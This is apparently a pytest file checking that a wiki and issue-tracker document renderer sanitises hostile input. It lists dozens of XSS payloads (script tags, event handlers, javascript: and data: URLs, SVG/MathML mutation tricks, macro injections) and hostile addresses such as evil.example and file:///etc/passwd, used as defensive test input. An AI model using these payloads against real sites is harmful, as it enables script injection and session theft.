from dataclasses import replace
from html import escape

import pytest

from app.documents.adf import render_adf
from app.documents.errors import DocumentError
from app.documents.issue import issue_view, render_issue
from app.documents.sanitise import clean
from app.documents.storage import render_storage
from app.documents.types import Rendered
from app.documents.wiki import render_wiki
from tests.documents.allowed import faults
from tests.documents.given import MATERIAL, document, node, words

_ATTRIBUTE_NAMES = (
    "href src srcset action formaction background poster data cite code codebase dynsrc lowsrc longdesc "
    "profile usemap manifest icon xlink:href style class id name title onclick onerror target rel ping srcdoc "
    "datetime start colspan alt"
)
_ELEMENT_NAMES = "p div span a img td table h1 li ul blockquote time ac:image ac:link ac:emoticon ri:attachment unknown"
_NODE_ATTRIBUTES = (
    "href url text title language panelType panelIconText panelColor color id alt state layout shortName "
    "timestamp extensionKey background valign width height align level order colspan type"
)
_NODE_KINDS = (
    "heading panel expand codeBlock table tableRow tableCell mediaSingle media mediaInline inlineCard "
    "blockCard embedCard status mention emoji date extension bodiedExtension inlineExtension taskItem "
    "decisionItem layoutColumn orderedList"
)

FRAGMENTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src='x' onerror='alert(1)'/>",
    "<img src='media/att1' onload='alert(1)'/>",
    "<img src='//evil.example/x.png' srcset='//evil.example/y.png 2x'/>",
    "<p onclick='alert(1)' onmouseover='alert(1)'>x</p>",
    "<p style=\"background: url('//evil.example/x')\">x</p>",
    "<p style='behavior:url(x.htc); position: fixed; top: 0'>x</p>",
    "<div style='color: red; background-image: url(//evil.example/c)'>x</div>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel='stylesheet' href='//evil.example/x.css'/>",
    "<base href='//evil.example/'/>",
    "<meta http-equiv='refresh' content='0;url=//evil.example'/>",
    "<svg onload='alert(1)'><script>alert(1)</script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'/></foreignObject></svg>",
    "<svg><style><img src='x' onerror='alert(1)'/></style></svg>",
    "<math><maction actiontype='statusline' href='javascript:alert(1)'>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src='x' onerror='alert(1)'/></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'/>",
    "<object data='data:text/html,x'/><embed src='javascript:alert(1)'/><applet code='x'/>",
    "<form id='x' action='//evil.example'><input name='password'/><button formaction='javascript:alert(1)'>x</button></form>",
    "<a id='location' name='cookie' href='#x'>x</a><form name='body'/><img name='getElementById'/>",
    "<p id='doc-x'>a</p><p id='doc-x'>b</p>",
    "<h1>constructor</h1><h1>__proto__</h1><h1>constructor</h1>",
    "<details open='' ontoggle='alert(1)'><summary>x</summary></details>",
    "<video src='x' onerror='alert(1)'><source src='x'/></video><audio src='x'/>",
    "<marquee onstart='alert(1)'>x</marquee>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href=' jAvAsCrIpT&#58;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='https://evil.example' target='_top' rel='opener' ping='//evil.example' download=''>x</a>",
    "<a href='https://evil.example/&quot; onclick=&quot;alert(1)'>x</a>",
    "<a xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='javascript:alert(1)'>x</a>",
    "<p><![CDATA[<script>alert(1)</script>]]></p>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<noscript><p title='&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;'>x</p></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea>&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;</textarea>",
    "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>",
    "<xmp>&lt;script&gt;alert(1)&lt;/script&gt;</xmp><plaintext>x</plaintext>",
    "<table><tr><td><a href='https://a.example'><table><tr><td><a href='https://b.example'>x</a></td></tr></table></a></td></tr></table>",
    "<table background='//evil.example'><tr background='javascript:x'><td background='//evil.example'>x</td></tr></table>",
    "<p><table><p><tr><p><td><p>x</p></td></p></tr></p></table></p>",
    "<h1><h2><h3><p><h4>x</h4></p></h3></h2></h1>",
    "<a href='https://a.example'><h1><a href='https://b.example'>x</a></h1></a>",
    "<ul><ul><li><li>x</li></li></ul><p>y</p></ul>",
    "<dl><dd><dl><dt>a</dt></dl></dd></dl><dd><dt>x</dt></dd>",
    "<b><p><b><p><b><table><b>x</b></table></b></p></b></p></b>",
    "<pre>\n\n\nx<p>y</p></pre>",
    "<ac:structured-macro ac:name='html'><ac:plain-text-body><![CDATA[<script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>",
    (
        "<ac:structured-macro ac:name='code'><ac:parameter ac:name='language'>html</ac:parameter>"
        "<ac:plain-text-body><![CDATA[</code></pre><script>alert(1)</script>]]></ac:plain-text-body></ac:structured-macro>"
    ),
    "<ac:structured-macro ac:name='code'><ac:parameter ac:name='title'>&quot;&gt;&lt;script&gt;</ac:parameter></ac:structured-macro>",
    "<ac:structured-macro ac:name='panel'><ac:parameter ac:name='bgColor'>red;background:url(//evil.example)</ac:parameter></ac:structured-macro>",
    "<ac:structured-macro ac:name='status'><ac:parameter ac:name='title'>&lt;img src=x onerror=alert(1)&gt;</ac:parameter></ac:structured-macro>",
    "<ac:structured-macro ac:name='anchor'><ac:parameter ac:name=''>body&quot; onclick=&quot;x</ac:parameter></ac:structured-macro>",
    "<ac:structured-macro ac:name='&lt;script&gt;alert(1)&lt;/script&gt;'/>",
    "<ac:structured-macro ac:name='{0.__class__}{words}'/>",
    "<ac:image ac:alt='&quot; onerror=&quot;alert(1)' ac:width='1&quot; x=&quot;' ac:class='evil'><ri:attachment ri:filename='plan.png'/></ac:image>",
    "<ac:image><ri:url ri:value='javascript:alert(1)'/></ac:image>",
    "<ac:link ac:anchor='x&quot; onclick=&quot;alert(1)'><ac:link-body><script>alert(1)</script></ac:link-body></ac:link>",
    "<ac:link><ri:url ri:value='javascript:alert(1)'/><ac:plain-text-link-body><![CDATA[x]]></ac:plain-text-link-body></ac:link>",
    (
        "<ac:structured-macro ac:name='widget'><ac:parameter ac:name='url'><ri:url ri:value='javascript:alert(1)'/>"
        "</ac:parameter></ac:structured-macro>"
    ),
    (
        "<ac:structured-macro ac:name='iframe'><ac:parameter ac:name='src'>data:text/html,&lt;script&gt;</ac:parameter>"
        "</ac:structured-macro>"
    ),
    (
        "<ac:structured-macro ac:name='footnote'><ac:rich-text-body><script>alert(1)</script><p><a href='javascript:x'>y</a>"
        "</p></ac:rich-text-body></ac:structured-macro>"
    ),
    (
        "<ac:structured-macro ac:name='clickable'><ac:parameter ac:name='link'><a href='javascript:alert(1)'>x</a>"
        "</ac:parameter><ac:rich-text-body><a href='https://a.example'>x</a></ac:rich-text-body></ac:structured-macro>"
    ),
    (
        "<ac:structured-macro ac:name='code'><ac:parameter ac:name='linenumbers'>true</ac:parameter><ac:parameter "
        "ac:name='language'>html</ac:parameter><ac:plain-text-body><![CDATA[<script>\n</span></code></pre><b>]]>"
        "</ac:plain-text-body></ac:structured-macro>"
    ),
    (
        "<ac:structured-macro ac:name='mathinline'><ac:parameter ac:name='body'>&lt;/code&gt;&lt;script&gt;alert(1)"
        "</ac:parameter></ac:structured-macro>"
    ),
    "<ac:structured-macro ac:name='toc-zone'><ac:rich-text-body><h1>&lt;img src=x onerror=x&gt;</h1></ac:rich-text-body></ac:structured-macro>",
    "<ac:structured-macro ac:name='gallery'><ac:parameter ac:name='title'>&lt;script&gt;</ac:parameter></ac:structured-macro>",
    "<ac:structured-macro ac:name='drawio'><ac:parameter ac:name='diagramName'>../x&quot; onerror=&quot;</ac:parameter></ac:structured-macro>",
    "<ac:inline-comment-marker ac:ref='x&quot; onclick=&quot;alert(1)'>x</ac:inline-comment-marker>",
    "<at:var at:name='&lt;script&gt;alert(1)&lt;/script&gt;'/>",
    "<a href='https://a.example/&quot;onclick=&quot;' data-card-appearance='embed'>x</a>",
    "<a href='javascript:alert(1)' data-card-appearance='block'>x</a>",
    "<table style='width: 1px;x:url(//evil.example)' data-table-width='1&quot;'><col style='width:1px' onload='x'/></table>",
    "<ac:emoticon ac:name='x' ac:emoji-id='3c-2f-73' ac:emoji-fallback=':x:'/>",
    "<ac:emoticon ac:name='x' ac:emoji-fallback='&lt;img src=x onerror=alert(1)&gt;'/>",
    "<time datetime='2026-01-01&quot; onclick=&quot;x'/>",
    "<p>\u202e\u2066\ufeff\u0000\u0085\ufdd0\U0001ffff</p>",
    "\ufeff\ufeffx",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JAVASCRIPT&colon;alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    'https://evil.example/" onclick="alert(1)',
    "https:evil.example",
    "blob:https://a.example/1",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "https://a.example\nhttps://b.example",
]
_ATTRIBUTES = _ATTRIBUTE_NAMES.split()
_ELEMENTS = _ELEMENT_NAMES.split()


def assert_safe(rendered: Rendered) -> None:
    assert list(faults(rendered.html)) == []
    assert clean(rendered.html) == rendered.html


@pytest.mark.parametrize("fragment", FRAGMENTS)
@pytest.mark.parametrize(
    "around", ["{}", "<p>{}</p>", "<h2>{}</h2>", "<a href='https://a.example'>{}</a>", "<ul><li>{}</li></ul>"]
)
def test_hostile_storage_format_is_safe(fragment: str, around: str) -> None:
    try:
        rendered = render_storage(around.format(fragment) if "{0" not in fragment else fragment, MATERIAL)
    except DocumentError:
        return
    assert_safe(rendered)


@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize("element", _ELEMENTS)
def test_no_address_gets_through_in_any_attribute(element: str, address: str) -> None:
    for attribute in _ATTRIBUTES:
        assert_safe(render_storage(f'<{element} {attribute}="{escape(address)}">x</{element}>', MATERIAL))


@pytest.mark.parametrize("text", [*FRAGMENTS, *ADDRESSES])
def test_hostile_adf_is_safe(text: str) -> None:
    attributes = _NODE_ATTRIBUTES.split()
    attrs = dict.fromkeys(attributes, text)
    kinds = _NODE_KINDS.split()
    everything = words(
        text, *({"type": kind, "attrs": attrs} for kind in ("link", "textColor", "backgroundColor", "subsup"))
    )

    assert_safe(
        render_adf(document(*(node(kind, everything, **attrs) for kind in kinds), node(text, everything)), MATERIAL)
    )


WIKI_AROUND = [
    "{}",
    "* {}",
    "|{}|",
    "h1. {}",
    "{{quote}}{}{{quote}}",
    "[{}|https://a.example]",
    "[x|{}]",
    "!{}!",
    "!plan.png|alt={}!",
    "[~{}] [^{}] [#{}]",
    "{{color:{}}}x{{color}}",
    "{{panel:title={}|bgColor={}}}x{{panel}}",
    "{{code:{}}}{}{{code}}",
    "{{anchor:{}}} {{status:title={}|colour={}}} {{{}}} {{x:{}}}",
]


@pytest.mark.parametrize("around", WIKI_AROUND)
def test_hostile_wiki_markup_is_safe(around: str) -> None:
    for text in [*FRAGMENTS, *ADDRESSES]:
        assert_safe(render_wiki(around.replace("{}", text).replace("{{", "{").replace("}}", "}"), MATERIAL))


@pytest.mark.parametrize("text", [*FRAGMENTS, *ADDRESSES])
def test_hostile_values_of_issues_are_safe(text: str) -> None:
    kinds = ["string", "option", "user", "any", "priority", "status", "group"]
    schema: dict[str, object] = {f"f{at}": {"type": kind} for at, kind in enumerate(kinds)}
    schema |= {"url": {"type": "string", "custom": "x:url"}, "text": {"type": "string", "custom": "x:textarea"}}
    raw: dict[str, object] = {"name": text, "value": text, "displayName": text, "accountId": text}
    fields: dict[str, object] = dict.fromkeys(schema, raw) | {"url": text, "text": text, "f0": text, "summary": text}
    comments: list[dict[str, object]] = [{"id": "1", "author": raw, "body": text}]
    names = dict.fromkeys(fields, text)
    material = replace(MATERIAL, people={text: text}, links={"issue:A-2": text})
    fields["issuelinks"] = [{"type": {"outward": text}, "outwardIssue": {"key": "A-2", "fields": {"summary": text}}}]

    shown = frozenset(fields) | {"comment"}
    assert_safe(render_issue(issue_view(text, fields, names, schema, shown, comments=comments), material))


def test_ids_of_content_cannot_meet_one_another_or_the_page() -> None:
    body = "".join(f"<h1>{name}</h1>" for name in ("main", "main", "Main!", "main 2", "main-2", "contents-heading"))

    rendered = render_storage(body, MATERIAL)

    assert all(heading.id.startswith("doc-") for heading in rendered.headings)
    assert_safe(rendered)
